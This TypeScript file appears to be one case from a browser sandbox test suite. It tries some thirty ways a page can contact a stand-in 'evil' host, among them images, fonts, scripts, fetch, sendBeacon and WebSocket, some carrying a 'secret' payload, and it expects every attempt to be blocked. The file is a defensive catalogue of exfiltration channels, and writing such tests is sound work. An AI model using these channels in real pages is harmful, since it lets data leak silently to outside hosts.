import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';
import { same } from '../expect.ts';

/** Every way a document has of asking for something from elsewhere. */
const techniques: Readonly<Record<string, (url: string) => unknown>> = {
  image: (url) => {
    new Image().src = url;
  },
  srcset: (url) => {
    new Image().srcset = `${url} 1x`;
  },
  style: (url) => append('style', {}, `body{background:url("${url}")}`),
  importedStyle: (url) => append('style', {}, `@import "${url}";`),
  stylesheet: (url) => append('link', { rel: 'stylesheet', href: url }),
  font: (url) => {
    append('style', {}, `@font-face{font-family:out;src:url("${url}")}`);
    append('p', { style: 'font-family:out' }, 'text');
  },
  fontFace: (url) => new FontFace('out2', `url("${url}")`).load().catch(() => null),
  script: (url) => append('script', { src: url }),
  moduleScript: (url) => append('script', { src: url, type: 'module' }),
  video: (url) => append('video', { src: url, autoplay: '' }),
  audio: (url) => append('audio', { src: url, autoplay: '' }),
  track: (url) =>
    append('video', {}).append(Object.assign(document.createElement('track'), { src: url, default: true })),
  object: (url) => append('object', { data: url }),
  embed: (url) => append('embed', { src: url }),
  frame: (url) => append('iframe', { src: url }),
  prefetch: (url) => append('link', { rel: 'prefetch', href: url }),
  preload: (url) => append('link', { rel: 'preload', as: 'fetch', href: url }),
  modulePreload: (url) => append('link', { rel: 'modulepreload', href: url }),
  manifest: (url) => append('link', { rel: 'manifest', href: url }),
  icon: (url) => append('link', { rel: 'icon', href: url }),
  speculation: (url) =>
    append('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] })),
  fetch: (url) => fetch(url, { mode: 'no-cors' }).catch(() => null),
  keepalive: (url) =>
    fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }).catch(() => null),
  request: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, 'secret'),
  eventSource: (url) => new EventSource(url),
  webSocket: (url) => new WebSocket(url.replace('http', 'ws')),
  svgImage: (url) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url}" width="1" height="1"/></svg>`);
  },
  inputImage: (url) => append('input', { type: 'image', src: url }),
  poster: (url) => append('video', { poster: url }),
  cursor: (url) => append('style', {}, `html{cursor:url("${url}"),auto}`),
};

function append(name: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  element.textContent = text;
  document.body.append(element);
  return element;
}

export const attack: Attack = {
  id: '16',
  group: 'exfiltration',
  title: `load something from elsewhere, in ${Object.keys(techniques).length} ways`,
  expected: '0 hits',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }): Promise<JsonValue> {
    const tried: string[] = [];
    for (const [name, go] of Object.entries(techniques)) {
      try {
        go(`${evil}/16/${name}?secret`);
      } catch {
        // The browser refused the call itself; what counts is what the witness hears.
      }
      tried.push(name);
    }
    await pause(1500);
    return tried;
  },
  judge({ report }) {
    same(report, Object.keys(techniques));
  },
};
